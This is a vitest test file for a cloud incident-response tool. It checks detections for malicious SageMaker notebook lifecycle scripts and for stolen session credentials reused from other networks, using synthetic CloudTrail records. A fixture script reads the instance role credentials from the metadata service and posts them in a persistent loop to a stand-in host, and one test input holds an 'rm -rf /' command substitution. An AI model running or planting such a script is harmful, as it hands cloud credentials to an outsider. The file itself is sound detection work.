/**
 * Notebook lifecycle scripts judged by their text (decoded under a cap, never run), and the
 * detections that use them: a configuration that posts the instance's role credentials out, its
 * attachment to a notebook, a person's command-line session copied to another device, and a
 * notebook run's credentials used from outside before the instance itself called AWS.
 */
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { controlPlaneCase, controlPlaneFindings } from '../../test/helpers/control-plane-case.js';
import type { Finding } from '../model/types.js';
import { copiesWithAdditions, judgeScript, lifecycleScripts } from './lifecycle-scripts.js';

const ACCT = '111122223333';
const REGION = 'eu-west-1';
const tmp = mkdtempSync(path.join(tmpdir(), 'genai-ir-lcc-'));
afterAll(() => rmSync(tmp, { recursive: true, force: true }));

const b64 = (s: string): string => Buffer.from(s, 'utf8').toString('base64');

const PACKAGES = `#!/bin/bash
set -e
sudo -u ec2-user -i <<'EOF'
source /home/ec2-user/anaconda3/bin/activate python3
pip install --quiet --index-url https://pypi.example.org/simple pandas==2.2.2 boto3==1.35.0
source /home/ec2-user/anaconda3/bin/deactivate
EOF
`;
const STEALER = `${PACKAGES}cat >/usr/local/bin/sync-agent <<'EOF'
while true; do
  T=$(curl -s -X PUT http://169.254.169.254/latest/api/token -H "X-aws-ec2-metadata-token-ttl-seconds: 60")
  R=$(curl -s -H "X-aws-ec2-metadata-token: $T" http://169.254.169.254/latest/meta-data/iam/security-credentials/)
  curl -s -H "X-aws-ec2-metadata-token: $T" http://169.254.169.254/latest/meta-data/iam/security-credentials/$R | curl -s -X POST --data-binary @- https://collector.example.net/v1/in
  sleep 1800
done
EOF
nohup /usr/local/bin/sync-agent >/dev/null 2>&1 &
`;

describe('lifecycle scripts: text only', () => {
  it('decodes onStart / onCreate content under a cap and skips what is not base64', () => {
    expect(lifecycleScripts({ onStart: [{ content: b64('echo hi') }] })).toEqual(['echo hi']);
    expect(lifecycleScripts({ onCreate: [{ content: '$(rm -rf /)' }] })).toEqual([]);
    expect(lifecycleScripts(null)).toEqual([]);
    const huge = lifecycleScripts({ onStart: [{ content: b64('a'.repeat(100_000)) }] });
    expect(huge[0].length).toBeLessThanOrEqual(18_000);
  });

  it('tells a script that posts the role credentials out from a package install', () => {
    const bad = judgeScript(STEALER);
    expect(bad.stealsCredentials).toBe(true);
    expect(bad.outsideHosts).toEqual(['collector.example.net']);
    expect(bad.persistence).toContain('endless loop');
    const ok = judgeScript(PACKAGES);
    expect(ok.stealsCredentials).toBe(false);
    expect(ok.credentialReads).toEqual([]);
    // reading the metadata service for the Region, sending nothing: not a theft
    expect(
      judgeScript('curl -s http://169.254.169.254/latest/meta-data/placement/region').stealsCredentials,
    ).toBe(false);
    // a sidecar, a cluster-internal name or shared address space is not a destination outside
    const inside = judgeScript(
      'TOKEN=$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/role)\n' +
        'curl -X POST -d "$TOKEN" http://collector:4318/v1\n' +
        'curl -X POST -d "$TOKEN" http://otel.ops.svc/v1 http://100.64.1.2/x',
    );
    expect(inside.outsideHosts).toEqual([]);
    expect(inside.stealsCredentials).toBe(false);
  });

  it('finds a look-alike: an earlier script copied with lines added', () => {
    expect(copiesWithAdditions(PACKAGES, STEALER)).toBe(true);
    expect(copiesWithAdditions(PACKAGES, PACKAGES)).toBe(false);
    expect(copiesWithAdditions(PACKAGES, 'echo other\nexit 0\nls\n')).toBe(false);
  });
});

// ---- detections over CloudTrail ---------------------------------------------------------------------

let seq = 0;
const id = (): string =>
  `0000${(++seq).toString(16).padStart(4, '0')}-2222-4222-8333-${seq.toString().padStart(12, '0')}`;

const at = (t0: string, minutes: number): string =>
  new Date(Date.parse(t0) + minutes * 60_000).toISOString().replace('.000Z', 'Z');

interface Who {
  role: string;
  session: string;
  key: string;
  path?: string;
}

function ct(
  time: string,
  source: string,
  name: string,
  who: Who | 'sagemaker',
  ip: string,
  ua: string,
  req: unknown = null,
  resp: unknown = null,
): Record<string, unknown> {
  const identity =
    who === 'sagemaker'
      ? { type: 'AWSService', invokedBy: 'sagemaker.amazonaws.com' }
      : {
          type: 'AssumedRole',
          principalId: `AROAEXAMPLE${who.role.length}:${who.session}`,
          arn: `arn:aws:sts::${ACCT}:assumed-role/${who.role}/${who.session}`,
          accountId: ACCT,
          accessKeyId: who.key,
          sessionContext: {
            sessionIssuer: {
              type: 'Role',
              principalId: `AROAEXAMPLE${who.role.length}`,
              arn: `arn:aws:iam::${ACCT}:role/${who.path ?? ''}${who.role}`,
              accountId: ACCT,
              userName: who.role,
            },
            attributes: { creationDate: '2025-06-01T00:00:00Z', mfaAuthenticated: 'false' },
          },
        };
  return {
    eventVersion: '1.09',
    userIdentity: identity,
    eventTime: time,
    eventSource: source,
    eventName: name,
    awsRegion: REGION,
    sourceIPAddress: who === 'sagemaker' ? 'sagemaker.amazonaws.com' : ip,
    userAgent: who === 'sagemaker' ? 'sagemaker.amazonaws.com' : ua,
    requestParameters: req,
    responseElements: resp,
    requestID: id(),
    eventID: id(),
    readOnly: /^(Get|List|Describe|Head)/.test(name),
    eventType: 'AwsApiCall',
    managementEvent: true,
    recipientAccountId: ACCT,
    eventCategory: 'Management',
  };
}

const CLI_LAPTOP =
  'aws-cli/2.23.5 md/awscrt#0.23.7 ua/2.0 os/linux#5.15.152.1-microsoft-standard-WSL2 md/arch#x86_64 lang/python#3.12.6';
const CLI_LAPTOP_OTHER_CMD = `${CLI_LAPTOP} md/command#sagemaker.describe-notebook-instance`;
const BOTO_VPS =
  'Boto3/1.29.5 md/Botocore#1.32.5 ua/2.0 os/linux#6.1.0-13-amd64 md/arch#x86_64 lang/python#3.11.9';
const NOTEBOOK_UA =
  'Boto3/1.36.7 md/Botocore#1.36.7 ua/2.0 os/linux#6.1.114-132.176.amzn2023.x86_64 md/arch#x86_64 lang/python#3.10.14';
const BROWSER = 'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko)';

const OFFICE = '198.51.100.10';
const HOME_ISP = '100.24.5.9';
const VPS = '203.0.113.66';
const VPS2 = '192.0.2.200';
const NB_EGRESS = '52.95.110.7';
const OTHER_NB_EGRESS = '52.95.111.9';

const sso = (person: string, key: string): Who => ({
  role: 'AWSReservedSSO_DataScientist_0123456789abcdef',
  path: 'aws-reserved/sso.amazonaws.com/',
  session: `${person}@example.com`,
  key,
});

/** Office background: several people at the same address (the account's everyday address). */
function office(t0: string): Record<string, unknown>[] {
  const out: Record<string, unknown>[] = [];
  ['ana', 'bo', 'cy', 'di'].forEach((p, i) => {
    for (let k = 0; k < 3; k++)
      out.push(
        ct(
          at(t0, -480 + i * 7 + k * 240),
          's3.amazonaws.com',
          'ListBuckets',
          sso(p, `ASIAOFC${i}${k}`),
          OFFICE,
          BROWSER,
        ),
      );
  });
  return out;
}

const by = (fs: Finding[], rule: string): Finding[] => fs.filter((f) => f.ruleId === rule);
const sm = 'sagemaker.amazonaws.com';

describe("a person's command-line session on another device", () => {
  const T = '2025-06-03T01:00:00Z';
  const eng = sso('eng', 'ASIAENGCLISESSION001');
  const daytime = [0, 20, 45, 90, 150].map((m) =>
    ct(at(T, m), sm, 'DescribeNotebookInstance', eng, OFFICE, CLI_LAPTOP_OTHER_CMD, {
      notebookInstanceName: 'nb-a',
    }),
  );

  it('is taken when another client on another OS uses it from a network none of their sessions used', async () => {
    const stolen = [
      ct(at(T, 720), 'sts.amazonaws.com', 'GetCallerIdentity', eng, VPS, BOTO_VPS),
      ct(at(T, 722), sm, 'StopNotebookInstance', eng, VPS, BOTO_VPS, { notebookInstanceName: 'nb-b' }),
    ];
    const fs = await controlPlaneFindings(path.join(tmp, 'sso-stolen'), {
      'ct.json': { Records: [...office(T), ...daytime, ...stolen] },
    });
    const f = by(fs, 'access.session-credentials-reused-elsewhere');
    expect(f).toHaveLength(1);
    expect(f[0].severity).toBe('high');
    expect(f[0].sourceIps).toEqual([VPS]);
    expect(f[0].evidence.eventIds).toEqual(stolen.map((r) => String(r.eventID)).sort());
    // only looking around: probable
    const looked = await controlPlaneFindings(path.join(tmp, 'sso-looked'), {
      'ct.json': { Records: [...office(T), ...daytime, stolen[0]] },
    });
    expect(by(looked, 'access.session-credentials-reused-elsewhere')[0].severity).toBe('medium');
  });

  it('is not taken when the same laptop works from home, or the session is the console', async () => {
    const fromHome = [
      ct(at(T, 720), sm, 'StopNotebookInstance', eng, HOME_ISP, CLI_LAPTOP, { notebookInstanceName: 'nb-a' }),
    ];
    const fs = await controlPlaneFindings(path.join(tmp, 'sso-home'), {
      'ct.json': { Records: [...office(T), ...daytime, ...fromHome] },
    });
    expect(by(fs, 'access.session-credentials-reused-elsewhere')).toHaveLength(0);
    const console = sso('eng', 'ASIAENGCONSOLE000001');
    const web = [
      ct(at(T, 1), sm, 'DescribeNotebookInstance', console, OFFICE, BROWSER, {
        notebookInstanceName: 'nb-a',
      }),
      ct(at(T, 700), sm, 'StopNotebookInstance', console, VPS, BOTO_VPS, { notebookInstanceName: 'nb-a' }),
    ];
    const fs2 = await controlPlaneFindings(path.join(tmp, 'sso-console'), {
      'ct.json': { Records: [...office(T), ...web] },
    });
    expect(by(fs2, 'access.session-credentials-reused-elsewhere')).toHaveLength(0);
    // a network the person's session under another permission set used (their own second machine)
    const admin: Who = {
      ...sso('eng', 'ASIAENGADMINCONSOLE1'),
      role: 'AWSReservedSSO_Admin_0123456789abcdef',
    };
    const own = [
      ct(at(T, 600), 's3.amazonaws.com', 'ListBuckets', admin, VPS, BROWSER),
      ct(at(T, 720), sm, 'StopNotebookInstance', eng, VPS, BOTO_VPS, { notebookInstanceName: 'nb-a' }),
    ];
    const fs3 = await controlPlaneFindings(path.join(tmp, 'sso-own-second'), {
      'ct.json': { Records: [...office(T), ...daytime, ...own] },
    });
    expect(by(fs3, 'access.session-credentials-reused-elsewhere')).toHaveLength(0);
  });
});

describe('notebook lifecycle backdoor', () => {
  const T = '2025-06-03T01:00:00Z';
  const sci = sso('sci', 'ASIASCICONSOLE000001');
  const eng = sso('eng', 'ASIAENGCLISESSION001');
  const lccArn = (n: string): string =>
    `arn:aws:sagemaker:${REGION}:${ACCT}:notebook-instance-lifecycle-config/${n}`;
  const nbArn = (n: string): string => `arn:aws:sagemaker:${REGION}:${ACCT}:notebook-instance/${n}`;
  const exec = (key: string): Who => ({ role: 'nb-exec', session: 'SageMaker', key });
  const issue = (t: string, key: string): Record<string, unknown> =>
    ct(
      t,
      'sts.amazonaws.com',
      'AssumeRole',
      'sagemaker',
      '',
      '',
      { roleArn: `arn:aws:iam::${ACCT}:role/nb-exec`, roleSessionName: 'SageMaker' },
      { credentials: { accessKeyId: key, sessionToken: 'x', expiration: 'Jun 3, 2025, 1:00:00 PM' } },
    );
  const createLcc = (t: string, who: Who, ip: string, ua: string, name: string, script: string) =>
    ct(
      t,
      sm,
      'CreateNotebookInstanceLifecycleConfig',
      who,
      ip,
      ua,
      { notebookInstanceLifecycleConfigName: name, onStart: [{ content: b64(script) }] },
      { notebookInstanceLifecycleConfigArn: lccArn(name) },
    );
  const op = (t: string, name: string, who: Who, ip: string, ua: string, req: unknown) =>
    ct(t, sm, name, who, ip, ua, req);
  // the owner's ticketless but ordinary package configuration, attached and started from the office
  const owner = [
    op(at(T, 0), 'StartNotebookInstance', sci, OFFICE, BROWSER, { notebookInstanceName: 'nb-b' }),
    createLcc(at(T, 240), sci, OFFICE, BROWSER, 'pkgs-v3', PACKAGES),
    op(at(T, 241), 'StopNotebookInstance', sci, OFFICE, BROWSER, { notebookInstanceName: 'nb-b' }),
    op(at(T, 246), 'UpdateNotebookInstance', sci, OFFICE, BROWSER, {
      notebookInstanceName: 'nb-b',
      lifecycleConfigName: 'pkgs-v3',
    }),
    op(at(T, 247), 'StartNotebookInstance', sci, OFFICE, BROWSER, { notebookInstanceName: 'nb-b' }),
    issue(at(T, 250), 'ASIANBRUN0000000001'),
    ...[255, 270, 300].map((m) =>
      ct(
        at(T, m),
        's3.amazonaws.com',
        'ListBuckets',
        exec('ASIANBRUN0000000001'),
        OTHER_NB_EGRESS,
        NOTEBOOK_UA,
      ),
    ),
  ];
  const daytime = [0, 20, 45].map((m) =>
    ct(at(T, m), sm, 'ListNotebookInstances', eng, OFFICE, CLI_LAPTOP, null),
  );
  const actor = [
    createLcc(at(T, 760), eng, VPS, BOTO_VPS, 'pkgs-v3-hotfix', STEALER),
    op(at(T, 761), 'StopNotebookInstance', eng, VPS, BOTO_VPS, { notebookInstanceName: 'nb-b' }),
    op(at(T, 766), 'UpdateNotebookInstance', eng, VPS, BOTO_VPS, {
      notebookInstanceName: 'nb-b',
      lifecycleConfigName: 'pkgs-v3-hotfix',
    }),
    op(at(T, 767), 'StartNotebookInstance', eng, VPS, BOTO_VPS, { notebookInstanceName: 'nb-b' }),
  ];
  const run = issue(at(T, 772), 'ASIANBRUNSTOLEN00001');
  // the run's credentials from outside first, then from the instance itself the next morning
  const outside = [800, 801, 802].map((m) =>
    ct(at(T, m), 's3.amazonaws.com', 'ListBuckets', exec('ASIANBRUNSTOLEN00001'), VPS2, BOTO_VPS),
  );
  const inside = [1300, 1320].map((m) =>
    ct(at(T, m), 's3.amazonaws.com', 'ListBuckets', exec('ASIANBRUNSTOLEN00001'), NB_EGRESS, NOTEBOOK_UA),
  );
  const records = [...office(T), ...owner, ...daytime, ...actor, run, ...outside, ...inside];

  it('judges the configuration by its script and its attachment with the stop and start that ran it', async () => {
    const fs = await controlPlaneFindings(path.join(tmp, 'lcc'), { 'ct.json': { Records: records } });
    const lcc = by(fs, 'infrastructure.sagemaker-lifecycle-config');
    const made = lcc.find((f) => f.evidence.eventIds?.includes(String(actor[0].eventID)));
    expect(made?.severity).toBe('high');
    expect(made?.resources).toEqual([lccArn('pkgs-v3-hotfix')]);
    expect(JSON.stringify(made?.details)).toContain('pkgs-v3');
    expect(JSON.stringify(made?.details)).toContain('collector.example.net');
    const attached = lcc.find((f) => f.evidence.eventIds?.includes(String(actor[2].eventID)));
    expect(attached?.severity).toBe('high');
    expect(attached?.evidence.eventIds).toEqual(
      [actor[1], actor[2], actor[3], run].map((r) => String(r.eventID)).sort(),
    );
    expect(attached?.resources).toEqual(
      expect.arrayContaining([nbArn('nb-b'), lccArn('pkgs-v3-hotfix'), `arn:aws:iam::${ACCT}:role/nb-exec`]),
    );
    expect(attached?.details?.notOwner).toBe(true);
    // the owner's package configuration and its attachment stay informational
    const ownerLcc = lcc.filter((f) =>
      f.evidence.eventIds?.some((e) => [owner[1], owner[3]].some((r) => String(r.eventID) === e)),
    );
    expect(ownerLcc.map((f) => f.severity)).toEqual(['informational', 'informational']);
  });

  it("tells the run's outside use from the instance's own, and traces it to the start and configuration", async () => {
    const { findings, scope } = await controlPlaneCase(
      path.join(tmp, 'lcc-run'),
      { 'ct.json': { Records: records } },
      { scope: true },
    );
    const f = by(findings, 'access.session-credentials-reused-elsewhere').find((x) =>
      x.accessKeyIds?.includes('ASIANBRUNSTOLEN00001'),
    );
    expect(f?.sourceIps).toEqual([VPS2]);
    expect(f?.evidence.eventIds).toEqual(outside.map((r) => String(r.eventID)).sort());
    expect(f?.resources).toEqual(expect.arrayContaining([nbArn('nb-b'), lccArn('pkgs-v3-hotfix')]));
    expect(JSON.stringify(f?.details?.issuedBy)).toContain(String(actor[3].eventID));
    expect(scope?.scope.sourceIps).not.toContain(NB_EGRESS);
    expect(scope?.scope.sourceIps).toEqual(expect.arrayContaining([VPS, VPS2]));
  });
});
